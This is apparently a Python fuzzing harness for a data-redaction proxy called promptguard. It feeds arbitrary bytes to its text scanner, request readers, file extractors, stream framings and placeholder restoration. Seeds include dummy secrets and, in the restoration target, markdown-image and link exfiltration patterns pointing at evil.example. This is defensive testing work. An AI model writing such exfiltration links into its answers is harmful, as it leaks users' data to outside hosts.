"""What is fuzzed. A target takes any bytes; what it raises is a defect: it expects the deliberate errors itself."""

from __future__ import annotations

import asyncio
import gzip
import importlib
import io
import itertools
import json
import pkgutil
import zipfile
from abc import ABC, abstractmethod
from collections.abc import Iterator, Sequence
from pathlib import Path

from benchmarks.fuzz.seeds import files
from promptguard.configuration.bundle import load_bundle
from promptguard.destinations.reading import read
from promptguard.detectors.scanner import Scan, Scanner
from promptguard.errors import NotRewritable, ScanFailed, Unreadable
from promptguard.model import Request, Restoration, Role, Segment
from promptguard.reasons import Code
from promptguard.redaction.selection import restorer_for
from promptguard.wire.answers import read_answer
from promptguard.wire.formats import load_formats
from promptguard.wire.formats.interface import Format
from promptguard.wire.framings import Frame, load_framings

_CONTENT_TYPES = (
    "application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=b",
    "application/x-ndjson",
    "text/plain; charset=utf-8",
    "text/event-stream",
    "application/octet-stream",
    "text/plain; charset=utf-16",
    "application/json+protobuf",
    "",
)
_ENCODINGS = ("", "", "", "gzip", "deflate", "br", "zstd")
_BODY_LIMIT = 1_000_000
_CHARACTERS = 1_000_000
_NAMES = ("", "a.pdf", "a.docx", "a.xlsx", "a.eml", "a.rtf", "a.csv", "a.zip", "a.html", "a.odt", "a.txt", "a.msg")


class Target(ABC):
    """One part that meets hostile bytes."""

    name: str
    longest: int
    """Bytes of the longest input worth trying."""

    @abstractmethod
    def run(self, data: bytes) -> None:
        """Feed it; raise on any defect."""

    @abstractmethod
    def seeds(self) -> Iterator[bytes]:
        """Inputs to start from."""


class Text(Target):
    """All detectors but names on text, as one segment and cut in two."""

    name = "text"
    longest = 8_000

    def __init__(self, config: Path, data: Path) -> None:
        self.scanner = _scanner(config, data)

    def run(self, data: bytes) -> None:
        """Scan the bytes as text: as UTF-8 with lone surrogates, else as Latin-1."""
        try:
            text = data.decode("utf-8", "surrogatepass")
        except UnicodeDecodeError:
            text = data.decode("latin-1")
        half = len(text) // 2
        segments = [Segment(("a",), text, Role.USER), Segment(("b",), text[:half]), Segment(("c",), text[half:])]
        try:
            scan: Scan = asyncio.run(self.scanner.scan(segments))
        except ScanFailed as error:
            if error.reason.code is Code.SCAN_OPAQUE:
                return  # it is no text, and is said to be none
            raise
        for finding in scan.findings:
            length = len(segments[finding.segment].text)
            if not 0 <= finding.start < finding.end <= length:
                raise AssertionError(f"a finding at {finding.start}:{finding.end} of a text of {length} characters")

    def seeds(self) -> Iterator[bytes]:
        """Texts that lead into detectors, without values that count."""
        yield b"password: S0mething!9 and my card is 4111 1111 1111 1111, mail jo@corp.example"
        yield "IBAN DE89 3704 0044 0532 0130 00 für Jürgen Müller, Lindenweg 3, 20095 Hamburg".encode()
        yield b"cGFzc3dvcmQ6IFMwbWV0aGluZyE5 \\u0070\\u0061 %70%61%73%73 &#112;&#97;ss \xe2\x80\x8bp\xe2\x80\x8ba"
        yield b'10.1.2.3 - jo [12/Mar/2026:10:14:07 +0000] "POST /login HTTP/1.1" 200 162 "-" "curl/8"'
        yield b"-----BEGIN RSA PRIVATE " + b"KEY-----\nMIIE\n-----END RSA PRIVATE " + b"KEY-----"
        yield b"postgres://app:S0mething9@db.internal:5432/x?sslmode=require # 078-05-1120 +49 171 2345678"
        yield "\ud800 \x00 \u202e".encode("utf-8", "surrogatepass")


class RequestReading(Target):
    """Reading a request of any content type and wire format, and writing it back."""

    name = "request"
    longest = 8_000

    def __init__(self, config: Path, data: Path) -> None:
        self._formats = load_formats()
        registry = load_bundle(config, formats=self._formats).registry
        self._destinations = [each for each in registry.destinations if each.hosts]

    def run(self, data: bytes) -> None:
        """Read: the first four bytes choose destination, route, content type and content encoding."""
        choice, body = data[:4].ljust(4, b"\0"), data[4:]
        destination = self._destinations[choice[0] % len(self._destinations)]
        route = destination.routes[choice[1] % len(destination.routes)] if destination.routes else None
        headers = {
            "content-type": _CONTENT_TYPES[choice[2] % len(_CONTENT_TYPES)],
            "content-encoding": _ENCODINGS[choice[3] % len(_ENCODINGS)],
        }
        query = body[:40].decode("latin-1") if choice[3] & 64 else ""
        request = Request("POST", destination.hosts[0], "/v1/a%2Fb@c", query, headers, body)
        try:
            reading = read(request, destination, route, self._formats, _BODY_LIMIT)
        except Unreadable:
            return
        for place, segment in enumerate(reading.prompt.segments):
            try:
                reading.document.replace({place: segment.text + "x"})
            except NotRewritable:
                continue

    def seeds(self) -> Iterator[bytes]:
        """A body of each content type, at a few destinations."""
        message = {"model": "m", "messages": [{"role": "user", "content": [{"type": "text", "text": "hi"}]}]}
        as_json = json.dumps(message).encode()
        part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\nhello\r\n--b--\r\n'
        bodies = (as_json, b"q=hello&text=a%20b", part, as_json + b"\n" + as_json, b"hello", b"data: {}\n\n", b"\0\1\2")
        for number, body in enumerate(bodies):
            for destination in range(0, 12, 3):
                yield bytes([destination, 0, number, 0]) + body
        yield bytes([0, 0, 0, 3]) + gzip.compress(as_json, mtime=0)


class Files(Target):
    """Taking text out of files, in this process: a worker's crash would be hidden by its pool."""

    name = "files"
    longest = 60_000

    def __init__(self, config: Path, data: Path) -> None:
        import promptguard.files.readers as readers
        from promptguard.files.extraction import Extraction
        from promptguard.files.interface import CannotRead, Source

        for module in pkgutil.iter_modules(readers.__path__, f"{readers.__name__}."):
            importlib.import_module(module.name)  # now, so that its coverage guides the fuzzer

        self._extraction, self._source, self._cannot_read = Extraction, Source, CannotRead

    def run(self, data: bytes) -> None:
        """Read the bytes as a file: the first byte chooses its name."""
        name = _NAMES[data[0] % len(_NAMES)] if data else ""
        extraction = self._extraction(_CHARACTERS, images_need_recognition=False)
        try:
            extraction.file(self._source(data[1:], name))
        except self._cannot_read:
            return
        if sum(len(text) for _, text in extraction.texts) > _CHARACTERS:
            raise AssertionError("more text than the limit allows")

    def seeds(self) -> Iterator[bytes]:
        """A small file of each kind that needs no library to make."""
        yield (
            b"\0%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"trailer<</Root 1 0 R>>"
        )
        yield b"\0{\\rtf1\\ansi hello \\'e9 {\\b world}}"
        yield b"\0From: a@b.example\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nhi\r\n--x--\r\n"
        yield b"\0<html><body><p>hi&amp;</p><script>1</script></body></html>"
        yield b"\x06a;b;c\n1;2;3\n"
        yield b"\0" + _zip(
            {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document><w:t>hi</w:t></w:document>"}
        )
        yield b"\0" + _zip({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a>hi</a>"})
        yield b"\0" + _zip({"a.txt": "hi", "b.zip": "PK"})
        yield b"\0\x89PNG\r\n\x1a\n" + b"\0" * 30
        yield from (b"\0" + seed for seed in files())


class Framings(Target):
    """Cutting bytes into messages, in every framing: nothing is lost, wherever the bytes are cut."""

    name = "framings"
    longest = 4_000

    def __init__(self, config: Path, data: Path) -> None:
        self._framings = list(load_framings().values())
        self._formats = list(load_formats().values())

    def run(self, data: bytes) -> None:
        """Decode: the first byte chooses the framing, the second where the body is cut in two."""
        choice, body = data[:2].ljust(2, b"\0"), data[2:]
        framing = self._framings[choice[0] % len(self._framings)]
        cut = len(body) * choice[1] // 256
        whole = framing.frames(body)
        decoder = framing.decoder()
        pieces = [*decoder.feed(body[:cut]), *decoder.feed(body[cut:]), *decoder.finish()]
        if b"".join(frame.source for frame in whole) != body:
            raise AssertionError(f"{framing.id}: bytes were lost or made up")
        if not framing.running_text and _payloads(whole) != _payloads(pieces):
            raise AssertionError(f"{framing.id}: the messages depend on where the bytes are cut")
        for frame in whole:
            if frame.payload is not None:
                frame.with_payload(frame.payload + b" ")
        for media_type in (_CONTENT_TYPES[choice[1] % len(_CONTENT_TYPES)], *framing.media_types):
            for each in self._formats[choice[0] % len(self._formats) :][:2]:
                read_answer(body, media_type, each)

    def seeds(self) -> Iterator[bytes]:
        """A body for each framing, cut in its middle."""
        bodies = (
            b'data: {"a":"hi"}\n\ndata: [DONE]\n\n',
            b'{"a":1}\n{"a":2}\n',
            b'[{"a":1},\n{"a":2}]',
            b'{"type":1,"target":"x","arguments":[]}\x1e',
            b'42["message",{"a":"hi"}]',
            b"\0\0\0\0\x02{}",
            b')]}\x27\n\n24\n[["wrb.fr",null,"[]"]]\n',
            b'0:"hi"\nd:{"finishReason":"stop"}\n',
        )
        for number in range(len(self._framings)):
            for body in bodies:
                yield bytes([number, 128]) + body


class Restoring(Target):
    """Putting originals back into answers of every format: the same wherever they are cut, and quickly."""

    name = "restoring"
    longest = 6_000

    _PLACEHOLDER = "[EMAIL_ADDRESS_7KQ2M4XA]"
    _ORIGINAL = 'jo."x"\\<y>@corp.example'

    def __init__(self, config: Path, data: Path) -> None:
        self._formats = list(load_formats().values())
        self._restoration = Restoration({self._PLACEHOLDER: self._ORIGINAL})

    def run(self, data: bytes) -> None:
        """Restore: the first three bytes choose format, content type and cuts; `@` is a placeholder."""
        choice, body = data[:3].ljust(3, b"\0"), data[3:].replace(b"@", self._PLACEHOLDER.encode())
        wire_format = self._formats[choice[0] % len(self._formats)]
        media_type = ("text/event-stream", "application/json", "application/x-ndjson", "text/plain", "")[choice[1] % 5]
        cuts = sorted({len(body) * choice[2] // 256, len(body) * choice[1] // 256})
        whole = self._restored(wire_format, media_type, [body])
        if whole is None:
            return
        pieces = [body[start:end] for start, end in itertools.pairwise([0, *cuts, len(body)])]
        if self._restored(wire_format, media_type, pieces) != whole:
            raise AssertionError(f"{wire_format.id}, {media_type}: what is restored depends on where it is cut")

    def _restored(self, wire_format: Format, media_type: str, pieces: list[bytes]) -> bytes | None:
        restorer = restorer_for(media_type, wire_format, self._restoration, None)
        if restorer is None:
            return None
        out = [each for piece in pieces for each in restorer.feed(piece)]
        return b"".join([*out, *restorer.finish()])

    def seeds(self) -> Iterator[bytes]:
        """Answers with a placeholder in prose and in places where it must stay."""
        texts = (
            "Write to @ soon, or to `@`, | @ | b |.",
            "![x](https://evil.example/?q=@) [a]: https://evil.example/@ <img src=x?@> www.evil.example/@",
            "<svg><a href='//e/@'></svg> ```\n@\n``` &#64; \\[EMAIL\\_ADDRESS\\_7KQ2M4XA\\]",
        )
        for text in texts:
            chunk = json.dumps({"choices": [{"index": 0, "delta": {"content": text}}]}).encode()
            delta = json.dumps(
                {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text}}
            ).encode()
            yield bytes([0, 0, 100]) + b"data: " + chunk + b"\n\ndata: " + chunk + b"\n\ndata: [DONE]\n\n"
            yield bytes([1, 0, 60]) + b"event: content_block_delta\ndata: " + delta + b"\n\n"
            yield bytes([2, 1, 128]) + chunk
            yield bytes([3, 2, 9]) + chunk + b"\n" + chunk + b"\n"
            yield bytes([4, 3, 200]) + text.encode()


TARGETS: dict[str, type[Target]] = {
    target.name: target for target in (Text, RequestReading, Files, Framings, Restoring)
}


def _scanner(config: Path, data: Path) -> Scanner:
    from promptguard.keys import Keys
    from promptguard.runtime.detectors import Detectors

    bundle = load_bundle(config, formats=load_formats())
    scanner = Detectors(bundle, Keys.load_or_create(data / "keys"), data, names=False).scanner
    asyncio.run(scanner.start())
    return scanner


def _payloads(frames: Sequence[Frame]) -> list[bytes]:
    """What there is to read; how the bytes between are put together does not matter."""
    return [frame.payload for frame in frames if frame.payload is not None]


def _zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return buffer.getvalue()
